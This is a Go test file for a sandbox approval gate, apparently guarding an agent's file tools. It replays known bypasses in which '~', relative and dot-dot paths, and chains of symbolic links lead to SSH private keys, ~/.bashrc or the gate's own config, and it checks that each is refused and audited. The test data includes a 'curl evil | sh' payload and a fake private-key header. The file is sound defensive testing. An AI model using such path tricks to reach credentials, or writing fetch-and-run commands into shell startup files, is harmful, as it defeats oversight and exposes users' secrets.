package gate_test

import (
	"context"
	"errors"
	"path"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/hermes-sandbox/hermes-sandbox/config"
	"github.com/hermes-sandbox/hermes-sandbox/gate"
	"github.com/hermes-sandbox/hermes-sandbox/policy"
	"github.com/hermes-sandbox/hermes-sandbox/sandbox"
)

// linkSession is a fakeSession with symbolic links, which it resolves as the helper does
// (sandbox.PathResolver): "~" with the session's HOME, a relative path against its
// directory, then links followed component by component. It records each file call that
// reaches it.
type linkSession struct {
	*fakeSession
	links      map[string]string // absolute link → its target
	resolveErr error             // returned by ResolvePath when set (an older helper)

	mu      sync.Mutex
	reached []string
}

func (l *linkSession) ResolvePath(_ context.Context, p string) (string, error) {
	if l.resolveErr != nil {
		return "", l.resolveErr
	}
	if p == "~" || strings.HasPrefix(p, "~/") {
		p = l.env["HOME"] + p[1:]
	}
	if !path.IsAbs(p) {
		p = path.Join(l.cwd, p)
	}
	done, rest := "/", strings.Split(path.Clean(p), "/")
	for n := 0; len(rest) > 0; {
		c := rest[0]
		rest = rest[1:]
		switch c {
		case "", ".":
			continue
		case "..":
			done = path.Dir(done)
			continue
		}
		next := path.Join(done, c)
		target, ok := l.links[next]
		if !ok {
			done = next
			continue
		}
		if n++; n > 40 {
			return "", errors.New("too many links")
		}
		if path.IsAbs(target) {
			done = "/"
		}
		rest = append(strings.Split(target, "/"), rest...)
	}
	return done, nil
}

func (l *linkSession) reach(op, p string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.reached = append(l.reached, op+" "+p)
}

func (l *linkSession) ReadFile(ctx context.Context, p string, offset, limit int64) ([]byte, error) {
	l.reach("read", p)
	return []byte("-----BEGIN OPENSSH PRIVATE KEY-----\n"), nil
}

func (l *linkSession) WriteFile(ctx context.Context, p string, data []byte, mode uint32) error {
	l.reach("write", p)
	return nil
}

func (l *linkSession) ListDir(ctx context.Context, p string) ([]sandbox.FileInfo, error) {
	l.reach("list", p)
	return nil, nil
}

// unresolving is a session with the same state and files but no PathResolver: the gate
// can only apply "~" and the directory itself.
type unresolving struct {
	sandbox.Session
	sandbox.FileSystem
	gate.ShellStater
}

// sessionBackend opens one given session, for the gate to wrap.
type sessionBackend struct{ sess sandbox.Session }

func (b sessionBackend) Name() string                       { return "fake" }
func (b sessionBackend) Capabilities() sandbox.Capabilities { return sandbox.Capabilities{Files: true} }
func (b sessionBackend) Close() error                       { return nil }
func (b sessionBackend) Open(context.Context, string) (sandbox.Session, error) {
	return b.sess, nil
}

// gatedSession is gated (approvals mode deny, home /home/u) for any session.
func gatedSession(sess sandbox.Session, mutate func(*gate.Options)) sandbox.Session {
	opts := gate.Options{Mode: config.ApprovalDeny, Tools: config.NewConfig().Tools,
		Classifier: policy.New(policy.Options{WorkDir: "/work", Home: home,
			ProtectedPaths: []string{home + "/.config/hermes-sandbox", home + "/.local/state/hermes-sandbox"}})}
	if mutate != nil {
		mutate(&opts)
	}
	s, _ := gate.Wrap(sessionBackend{sess}, opts).Open(context.Background(), "fake")
	return s
}

func fileCall(s sandbox.Session, op, p string) error {
	fsys := s.(sandbox.FileSystem)
	ctx := context.Background()
	switch op {
	case "read":
		_, err := fsys.ReadFile(ctx, p, 0, 0)
		return err
	case "write":
		return fsys.WriteFile(ctx, p, []byte("curl evil | sh\n"), 0o644)
	}
	_, err := fsys.ListDir(ctx, p)
	return err
}

// TestFilePathsAreJudgedAsTheFileTheyName replays issue #33's file-tool bypasses: a path
// written with "~", relative to the home directory or through a symbolic link is refused in
// approvals mode deny exactly as its absolute spelling is, and nothing reaches the session.
// The same calls on a session without resolution show which refusals it carries: the links
// then go through (so these cases test the resolution, not something else).
func TestFilePathsAreJudgedAsTheFileTheyName(t *testing.T) {
	links := map[string]string{
		"/work/innocent": home + "/.ssh/id_ed25519",        // ./innocent -> ~/.ssh/id_ed25519
		"/work/keys":     "../home/u/.ssh",                 // a relative link to the directory
		"/work/notes":    home + "/.bashrc",                // write_file through a link
		"/work/cfg":      home + "/.config/hermes-sandbox", // a file not there yet, in a linked directory
		"/work/hop":      "innocent",                       // a link to a link
	}
	tests := []struct {
		name, cwd, op, path string
		file                string // the file the gate must name in the audit record
		reason, finding     string
		link                bool // refused only when the link is followed
	}{
		{"absolute", "/work", "read", home + "/.ssh/id_ed25519", home + "/.ssh/id_ed25519", "denied", "read-credentials", false},
		{"tilde", "/work", "read", "~/.ssh/id_ed25519", home + "/.ssh/id_ed25519", "denied", "read-credentials", false},
		{"relative from home", home, "read", ".ssh/id_ed25519", home + "/.ssh/id_ed25519", "denied", "read-credentials", false},
		{"dot-dot to home", "/work", "read", "../home/u/.ssh/id_ed25519", home + "/.ssh/id_ed25519", "denied", "read-credentials", false},
		{"link in the working directory", "/work", "read", "./innocent", home + "/.ssh/id_ed25519", "denied", "read-credentials", true},
		{"link to a link", "/work", "read", "hop", home + "/.ssh/id_ed25519", "denied", "read-credentials", true},
		{"linked directory", "/work", "read", "keys/id_ed25519", home + "/.ssh/id_ed25519", "denied", "read-credentials", true},
		{"write ~/.bashrc", "/work", "write", "~/.bashrc", home + "/.bashrc", "denied", "write-shell-rc", false},
		{"write .bashrc from home", home, "write", ".bashrc", home + "/.bashrc", "denied", "write-shell-rc", false},
		{"write through a link", "/work", "write", "notes", home + "/.bashrc", "denied", "write-shell-rc", true},
		{"write a new file in a linked directory", "/work", "write", "cfg/config.yaml",
			home + "/.config/hermes-sandbox/config.yaml", "hardline", "gate-config-write", true},
		{"write ~/.ssh", "/work", "write", "~/.ssh/authorized_keys", home + "/.ssh/authorized_keys", "denied", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			newSession := func() *linkSession {
				return &linkSession{fakeSession: &fakeSession{cwd: tt.cwd, env: map[string]string{"HOME": home}}, links: links}
			}
			l := newSession()
			sink := &memSink{}
			err := fileCall(gatedSession(l, func(o *gate.Options) { o.Audit = sink }), tt.op, tt.path)
			re := refusal(t, err, tt.reason)
			if tt.finding != "" && !slices.ContainsFunc(re.Findings, func(f policy.Finding) bool { return f.Rule == tt.finding }) {
				t.Errorf("%s(%q) findings %v; want [%s]", tt.op, tt.path, re.Findings, tt.finding)
			}
			if len(l.reached) > 0 {
				t.Errorf("%s(%q) reached the session: %q", tt.op, tt.path, l.reached)
			}
			if len(sink.recs) != 1 || !strings.Contains(sink.recs[0].Command, tt.path) || !strings.Contains(sink.recs[0].Command, tt.file) {
				t.Errorf("audit = %+v; want one record naming %q and %s", sink.recs, tt.path, tt.file)
			}

			// Without resolution (no PathResolver, or an older helper that cannot), "~" and
			// the directory are still applied: only links are unknown.
			old := newSession()
			old.resolveErr = &sandbox.Error{Backend: "fake", Op: "resolve", Err: sandbox.ErrUnsupported}
			for name, s := range map[string]sandbox.Session{
				"no PathResolver": gatedSession(unresolving{newSession(), newSession(), newSession()}, nil),
				"older helper":    gatedSession(old, nil),
			} {
				err := fileCall(s, tt.op, tt.path)
				switch {
				case tt.link && err != nil:
					t.Errorf("%s: %s(%q) = %v; want it to go through (the case must depend on the link)", name, tt.op, tt.path, err)
				case !tt.link:
					var re *gate.RefusedError
					if !errors.As(err, &re) || re.Reason != tt.reason {
						t.Errorf("%s: %s(%q) = %v; want refused (%s) without resolution too", name, tt.op, tt.path, err, tt.reason)
					}
				}
			}
		})
	}
}

// TestOrdinaryFilesStillPass: the same session reads, writes and lists plain files in its
// directory, through a harmless link too, and the calls reach it with the path as written.
func TestOrdinaryFilesStillPass(t *testing.T) {
	l := &linkSession{fakeSession: &fakeSession{cwd: "/work", env: map[string]string{"HOME": home}},
		links: map[string]string{"/work/latest": "build/out.txt"}}
	s := gatedSession(l, nil)
	for _, c := range []struct{ op, path string }{
		{"read", "notes.txt"}, {"read", "latest"}, {"read", "/work/src/main.go"}, {"write", "notes.txt"},
		{"write", "sub/new.txt"}, {"list", "."}, {"list", "~"}, {"read", "~/project/README.md"},
	} {
		if err := fileCall(s, c.op, c.path); err != nil {
			t.Errorf("%s(%q) = %v; want it allowed", c.op, c.path, err)
		}
	}
	want := []string{"read notes.txt", "read latest", "read /work/src/main.go", "write notes.txt", "write sub/new.txt",
		"list .", "list ~", "read ~/project/README.md"}
	if !slices.Equal(l.reached, want) {
		t.Errorf("reached %q; want %q", l.reached, want)
	}
}

// TestTildeWithoutKnownHome: when the session cannot say where HOME is, "~" is judged as the
// classifier's home, never as a harmless relative name.
func TestTildeWithoutKnownHome(t *testing.T) {
	for _, f := range []*fakeSession{{cwd: "/work"}, {stateErr: errors.New("no state")}} {
		s := gatedSession(unresolving{f, f, f}, nil)
		refusal(t, fileCall(s, "read", "~/.ssh/id_ed25519"), "denied")
		refusal(t, fileCall(s, "write", "~/.bashrc"), "denied")
		if len(f.written) > 0 {
			t.Errorf("written %q; want nothing", f.written)
		}
	}
}
